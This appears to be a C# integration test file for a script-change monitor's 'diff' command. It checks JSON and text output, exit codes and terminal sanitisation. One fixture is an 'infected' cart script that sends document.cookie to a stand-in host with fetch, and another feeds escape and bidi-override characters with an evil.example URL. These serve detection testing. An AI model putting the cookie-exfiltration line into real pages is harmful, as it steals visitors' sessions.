using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using PageShield.IntegrationTests.Hosting;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using PageShield.Storage;

namespace PageShield.IntegrationTests.Changes;

public sealed class DiffCommandTests : IDisposable
{
    private const string Clean = "(function () { var total = 0; function add(price) { total += price; } window.cart = { add: add }; })();";
    private const string Infected = "(function () { var total = 0; function add(price) { total += price; fetch('https://collect.example/x', { body: document.cookie }); } window.cart = { add: add }; })();";

    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task As_json_it_has_the_fields_that_scripts_rely_on()
    {
        var (code, output, error) = await DiffAsync(Clean, Infected, "--format", "json");

        Assert.Equal((1, ""), (code, error));
        var root = JsonDocument.Parse(output).RootElement;
        Assert.Equal("capability", root.GetProperty("class").GetString());
        Assert.Contains("collect.example", root.GetProperty("summary").GetString(), StringComparison.Ordinal);
        Assert.InRange(root.GetProperty("similarity").GetDouble(), 0.3, 0.99);
        var host = Assert.Single(root.GetProperty("added").EnumerateArray(), each => each.GetProperty("kind").GetString() == "host");
        Assert.Equal("collect.example", host.GetProperty("value").GetString());
        Assert.Equal(1, host.GetProperty("line").GetInt32());
        Assert.Equal(Infected.IndexOf("'https://", StringComparison.Ordinal) + 1, host.GetProperty("column").GetInt32());
        Assert.Equal(0, root.GetProperty("removed").GetArrayLength());
        var hunk = root.GetProperty("hunks")[0];
        Assert.True(hunk.GetProperty("oldStart").GetInt32() >= 1 && hunk.GetProperty("newStart").GetInt32() >= 1);
        // not null: lines are strings
        Assert.Contains(hunk.GetProperty("lines").EnumerateArray(),
            line => line.GetString()!.StartsWith('+') && line.GetString()!.Contains("fetch", StringComparison.Ordinal));
    }

    [Fact]
    public async Task What_went_away_is_listed_as_removed()
    {
        var (code, output, _) = await DiffAsync(Infected, Clean, "--format", "json");

        Assert.Equal(0, code);
        var root = JsonDocument.Parse(output).RootElement;
        Assert.Equal("code", root.GetProperty("class").GetString());
        Assert.Equal(0, root.GetProperty("added").GetArrayLength());
        Assert.Contains(root.GetProperty("removed").EnumerateArray(), each => each.GetProperty("value").GetString() == "collect.example");
    }

    [Theory]
    [InlineData("capability", 0)]
    [InlineData("code", 1)]
    public async Task The_exit_code_says_whether_the_change_is_deep_enough(string failOn, int forCode)
    {
        Assert.Equal(1, (await DiffAsync(Clean, Infected, "--fail-on", failOn)).Code);
        Assert.Equal(forCode, (await DiffAsync(Clean, Clean.Replace("+=", "-=", StringComparison.Ordinal), "--fail-on", failOn)).Code);
        Assert.Equal(0, (await DiffAsync(Clean, Clean, "--fail-on", failOn)).Code);
    }

    [Fact]
    public async Task As_text_it_says_the_sentence_the_abilities_and_the_lines()
    {
        var (_, output, _) = await DiffAsync(Clean, Infected);

        Assert.Contains("! capability  1 of 2 functions changed", output, StringComparison.Ordinal);
        Assert.Contains("+ host collect.example (1:", output, StringComparison.Ordinal);
        Assert.Contains("changed: add, line", output, StringComparison.Ordinal);
        Assert.Contains("+    fetch(", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Escape_sequences_and_markup_of_a_script_do_not_reach_the_terminal()
    {
        var (code, output, _) = await DiffAsync("go('a')", "go('[red]\u001b[31m\u202e', 'https://evil.example/[/]')");

        Assert.Equal(1, code);
        Assert.DoesNotContain('\u001b', output);
        Assert.DoesNotContain('\u202e', output);
        Assert.Contains("[red]\\u{1b}[31m", output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("missing.js", "no file")]
    [InlineData("abc", "no version's id")]
    [InlineData(".", "is a folder")]
    [InlineData("0123456789abcdef", "There is no database")]
    public async Task What_cannot_be_read_is_named_and_gives_2(string name, string reason)
    {
        var (code, output, error) = await CommandLine.RunAsync("diff", await WriteAsync("a.js", Clean), name, "--data-directory", _folder.Path);

        Assert.Equal((2, ""), (code, output));
        Assert.Contains(reason, error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_format_that_does_not_exist_is_refused()
    {
        var (code, _, error) = await DiffAsync(Clean, Infected, "--format", "yaml");

        Assert.Equal(2, code);
        Assert.Contains("yaml", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Stored_versions_are_compared_by_their_ids_with_and_without_a_server()
    {
        await using var server = await RunningServer.StartAsync();
        var hashes = new[] { Clean, Infected }.Select(Sha256Hash.OfText).ToList();
        await using (var db = await server.Services.GetRequiredService<IDbContextFactory<PageShieldDbContext>>()
            .CreateDbContextAsync(TestContext.Current.CancellationToken))
        {
            foreach (var text in new[] { Clean, Infected })
            {
                var bytes = System.Text.Encoding.UTF8.GetBytes(text);
                db.ScriptContents.Add(
                    new ScriptContent
                    {
                        Sha256 = Sha256Hash.OfText(text),
                        Length = bytes.Length,
                        Body = StoredBody.Compress(bytes),
                        FirstSeenAt = DateTimeOffset.UnixEpoch
                    });
            }

            await db.SaveChangesAsync(TestContext.Current.CancellationToken);
        }

        using var api = await server.ApiClientAsync("viewer");
        var token = api.DefaultRequestHeaders.Authorization!.Parameter!; // set by ApiClientAsync
        var here = await CommandLine.RunAsync(
            "diff", hashes[0].Brief, hashes[1].ToString(), "--format", "json", "--data-directory", server.DataDirectory);
        var there = await CommandLine.RunAsync(
            "diff", hashes[0].Brief, hashes[1].Brief, "--format", "json", "--server", server.Dashboard, "--token", token);
        var unknown = await CommandLine.RunAsync("diff", hashes[0].Brief, new string('0', 64), "--server", server.Dashboard, "--token", token);

        Assert.Equal((1, ""), (here.Code, here.Error));
        Assert.Equal((1, ""), (there.Code, there.Error));
        Assert.Equal(here.Output, there.Output);
        Assert.Contains("\"class\": \"capability\"", here.Output, StringComparison.Ordinal);
        Assert.Equal(2, unknown.Code);
    }

    private async Task<(int Code, string Output, string Error)> DiffAsync(string before, string after, params string[] more) =>
        await CommandLine.RunAsync(["diff", await WriteAsync("old.js", before), await WriteAsync("new.js", after), .. more]);

    private async Task<string> WriteAsync(string name, string text)
    {
        var path = Path.Combine(_folder.Path, name);
        await File.WriteAllTextAsync(path, text, TestContext.Current.CancellationToken);
        return path;
    }
}
